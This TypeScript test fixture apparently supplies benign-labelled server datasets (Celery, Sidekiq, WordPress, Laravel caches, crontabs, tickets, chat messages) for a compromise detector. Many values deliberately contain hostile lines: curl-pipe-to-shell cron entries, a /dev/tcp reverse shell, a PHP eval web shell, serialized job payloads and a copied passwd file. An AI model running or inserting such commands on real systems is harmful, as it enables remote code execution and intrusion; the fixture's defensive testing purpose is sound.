/** A value of a healthy server: a byte string, as written with latin1. */
export interface HonestValue {
  readonly key: string;
  readonly value: string;
  readonly kind?: 'string' | 'list' | 'hash' | 'set';
}

const FETCH = 'curl -fsSL https://get.example.invalid/install.sh | sh';
const PEM = '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ\n-----END CERTIFICATE-----\n';

/** Data sets in the form of software that is not installed here, and of people; each holds something that attacks hold. */
export const HONEST: readonly [string, readonly HonestValue[]][] = [
  [
    'a Celery queue with pickle and JSON',
    [
      {
        key: 'celery',
        kind: 'list',
        value: `{"body":"${Buffer.from(`[["${FETCH}"],{}]`).toString('base64')}","content-type":"application/json"}`,
      },
      { key: 'celery-task-meta-1', value: '{"status":"FAILURE","traceback":"os.system(\'id\')"}' },
      { key: '_kombu.binding.celery', kind: 'set', value: 'celery\x06\x16\x06\x16celery' },
    ],
  ],
  [
    'Sidekiq and sidekiq-cron',
    [
      { key: 'queue:default', kind: 'list', value: `{"class":"ShellJob","args":["${FETCH}"]}` },
      { key: 'cron_job:backup', kind: 'hash', value: '*/5 * * * * root' },
    ],
  ],
  [
    'a WordPress object cache and full page cache',
    [
      {
        key: 'wp:options:alloptions',
        value: 'a:1:{s:4:"cron";s:40:"wget -q -O- https://x.invalid/wp-cron.php";}',
      },
      {
        key: 'page-1',
        value: `<!DOCTYPE html><html><body><pre>\n\n*/5 * * * * root ${FETCH}\n\n</pre></body></html>`,
      },
    ],
  ],
  [
    'Traefik and Caddy stores',
    [
      { key: 'traefik/tls/certificates/0/certFile', value: PEM },
      { key: 'caddy/certificates/acme/x/x.crt', value: PEM },
      { key: 'acme-account', value: '{"Registration":{"uri":"https://acme.invalid/acct/1"}}' },
    ],
  ],
  [
    'Laravel jobs and Horizon',
    [
      {
        key: 'queues:default',
        kind: 'list',
        value:
          '{"job":"Illuminate\\\\Queue\\\\CallQueuedHandler@call","data":{"command":"O:14:\\"App\\\\Jobs\\\\Mail\\":1:{s:6:\\"system\\";s:2:\\"id\\";}"}}',
      },
      { key: 'laravel_database_horizon:1', kind: 'hash', value: 'exec' },
    ],
  ],
  [
    'Django cache',
    [
      {
        key: ':1:views.decorators.cache',
        value: '\x80\x04\x95\x11\0\0\0\0\0\0\0}\x94\x8c\x05title\x94\x8c\x05Hello\x94s.',
      },
    ],
  ],
  [
    'Spring sessions',
    [{ key: 'spring:session:sessions:1', kind: 'hash', value: '\xac\xed\0\x05sr\0\x11java.util.HashMap' }],
  ],
  [
    'a runbook in a wiki cache under a bare name',
    [
      {
        key: 'runbook',
        value: `Rotating the agents\n\nAdd this to the crontab of each host and wait:\n\n*/5 * * * * root ${FETCH}\n\nThen tell the others on the channel.\n`,
      },
    ],
  ],
  [
    'a warning of blackmail',
    [
      {
        key: 'security-notice',
        value: 'Beware: criminals encrypt your files and ask you to pay with bitcoin. Never pay.',
      },
    ],
  ],
  [
    'a tip about blackmail mails',
    [
      {
        key: 'tip',
        value:
          'If you receive an e-mail that says your data was stolen and asks to send 0.5 BTC, please report it.',
      },
    ],
  ],
  [
    'a news item',
    [
      {
        key: 'headline',
        value: 'Hackers wiped the database of a hospital and want 4 BTC to restore the files',
      },
    ],
  ],
  [
    'receipts of an exchange',
    [
      {
        key: 'msg',
        value: 'Your deposit of 0.5 BTC to wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa was confirmed',
      },
    ],
  ],
  [
    'the crontab of a package',
    [
      {
        key: 'system-crontab',
        value:
          '# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
      },
    ],
  ],
  [
    'the crontab of a hosting panel',
    [
      {
        key: 'crontab-ann',
        value:
          '\n0 3 * * * /usr/local/bin/backup.sh\n*/15 * * * * wget -q -O - https://shop.example.invalid/wp-cron.php\n',
      },
    ],
  ],
  [
    'certbot',
    [{ key: 'certbot', value: '0 0,12 * * * root certbot renew -q --deploy-hook "systemctl reload nginx"' }],
  ],
  [
    'a cloud-init script',
    [
      {
        key: 'user-data',
        value: '#!/bin/bash\nset -e\ncurl -fsSL https://get.docker.example.invalid | sh\n',
      },
    ],
  ],
  [
    'a Dockerfile',
    [
      {
        key: 'Dockerfile',
        value: 'FROM debian\nRUN apt-get update && curl -fsSL https://deb.example.invalid/setup | bash -\n',
      },
    ],
  ],
  [
    'a chat message',
    [{ key: 'lastmsg', value: 'hey, can you run curl http://203.0.113.4/deploy.sh | bash on web1 please?' }],
  ],
  [
    'lines of a web server',
    [
      {
        key: 'nginx-last',
        value: '203.0.113.9 - - [01/Nov/2026:10:00:00] "GET /?x=<?php @eval($_POST[1]);?> HTTP/1.1" 403',
      },
    ],
  ],
  ['a WAF buffer', [{ key: 'waf', kind: 'list', value: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }]],
  [
    'public keys of a forge',
    [
      {
        key: 'ann.keys',
        value: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAA\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7\n',
      },
    ],
  ],
  [
    'a known_hosts file',
    [{ key: 'known_hosts', value: 'db.example.invalid ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBAAxxxx\n' }],
  ],
  [
    'templates',
    [
      { key: 'tpl', value: '<?php echo e($_GET["q"]); ?>' },
      { key: 'ejs', value: '<% items.forEach(i => { %><li><%= i %></li><% }) %>' },
    ],
  ],
  ['a mail', [{ key: 'mail', value: '\n\nHello Ann,\n\nyour backup finished, 3 files were copied.\n\n' }]],
  ['a poem', [{ key: 'poem', value: '\n\n* * * a star map * * *\n\nby night\n' }]],
  [
    'names of developers',
    [
      { key: 'backup1', value: '2026-01-01' },
      { key: 'trojan1', value: 'horse' },
      { key: '1', value: '1' },
      { key: 'qwe', value: 'asd' },
    ],
  ],
  ['a job in YAML', [{ key: 'job', value: `schedule: "*/5 * * * *"\ncommand: ${FETCH}\n` }]],
  [
    'a Kubernetes object',
    [
      {
        key: 'cj',
        value:
          'apiVersion: batch/v1\nkind: CronJob\nspec:\n  schedule: "*/5 * * * *"\n  command: ["sh","-c","curl http://10.0.0.5/x | sh"]\n',
      },
    ],
  ],
  ['a CSV export', [{ key: 'export', value: 'id,cmd\n1,"curl http://203.0.113.9/x | sh"\n2,ls\n' }]],
  [
    'an object file in a build cache',
    [{ key: 'ccache:ab12', value: '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x01\0>\0' }],
  ],
  [
    'a pool of miners',
    [{ key: 'pool:config', value: '{"url":"stratum+tcp://pool.example.invalid:3333","donate-level":1}' }],
  ],
  [
    'the state of Ansible',
    [
      {
        key: 'ansible_facts_web1',
        value:
          '{"cmdline":"bash -c curl http://203.0.113.9/x | sh","passwd":"root:x:0:0:root:/root:/bin/bash"}',
      },
    ],
  ],
  [
    'a copied passwd file',
    [
      {
        key: 'inventory',
        value: 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n',
      },
    ],
  ],
  [
    'an incident ticket',
    [
      {
        key: 'ticket-77',
        value: `We found this line on the old web server today:\n\n*/2 * * * * root curl -s http://203.0.113.9/x | sh\n\nPlease look whether the other hosts have it too.`,
      },
    ],
  ],
];
